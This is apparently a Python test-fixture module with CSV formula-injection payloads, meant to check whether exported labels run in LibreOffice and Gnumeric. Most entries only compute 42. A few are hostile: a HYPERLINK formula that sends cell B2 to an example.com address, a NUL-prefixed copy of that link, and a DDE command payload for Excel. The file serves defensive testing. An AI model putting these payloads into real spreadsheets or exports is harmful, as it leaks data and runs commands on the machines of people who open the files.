"""Labels that try to run in a spreadsheet, shared by the CSV tests and by
benchmarks/check_csv_in_spreadsheets.py, which runs them through LibreOffice and Gnumeric.

Each one computes 42 (or makes a link) if a spreadsheet runs it, so a cell that shows 42 or a
link is a cell that ran.
"""

from __future__ import annotations

LEAK = '=HYPERLINK("http://example.com/?leak="&B2,"click")'

#: (label, why it is here)
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("=7*6", "a plain formula"),
    ("+7*6", "plus starts a formula"),
    ("-7*6+84", "minus starts a formula"),
    ("@SUM(7*6)", "at starts a formula (Lotus)"),
    ("\t=7*6", "tab before the formula (OWASP)"),
    ("\r=7*6", "carriage return before the formula (OWASP)"),
    ("\n=7*6", "line feed before the formula"),
    ("\r\n=7*6", "CRLF before the formula"),
    ("\x00=7*6", "NUL, which LibreOffice drops before it reads the formula"),
    ("\x00\x00+7*6", "two NULs"),
    ("\x0b=7*6", "vertical tab"),
    ("\x1f=7*6", "unit separator"),
    ("\x1b[2J=7*6", "an ANSI escape"),
    (" =7*6", "a leading space"),
    ("   +7*6", "leading spaces"),
    ("\u00a0=7*6", "a no-break space"),
    ("\u3000=7*6", "an ideographic space"),
    ("\uff1d7*6", "full-width equals"),
    ("\uff0b7*6", "full-width plus"),
    ("\uff0d7*6+84", "full-width minus"),
    ("\uff20SUM(7*6)", "full-width at"),
    ("\ufe667*6", "small equals"),
    ("\u22127*6+84", "minus sign"),
    ("x;=7*6;", "a semicolon splits it where ; is the separator"),
    ("x,=7*6,", "a comma splits it where , is the separator"),
    ('x";=7*6;"', "a quote and semicolons"),
    ('"=7*6', "a leading double quote"),
    ("'=7*6", "the user's own apostrophe"),
    (LEAK, "a link that leaks a cell"),
    ("\x00" + LEAK, "the same link behind a NUL"),
    ("=cmd|' /C calc'!A0", "DDE (Excel)"),
    ("\ud800=7*6", "a lone surrogate"),
    ("=7*6\udcff", "a lone surrogate from a file name's byte"),
    ("Hero images", "an ordinary label, left alone"),
    ("5 × 4K", "an ordinary label with a symbol"),
)

#: A model name from an override file reaches the `what` and `unknown` columns.
HOSTILE_MODEL_NAME = "=HYPERLINK(1)"
HOSTILE_UNKNOWN_REASON = "\x00=7*6, not published"
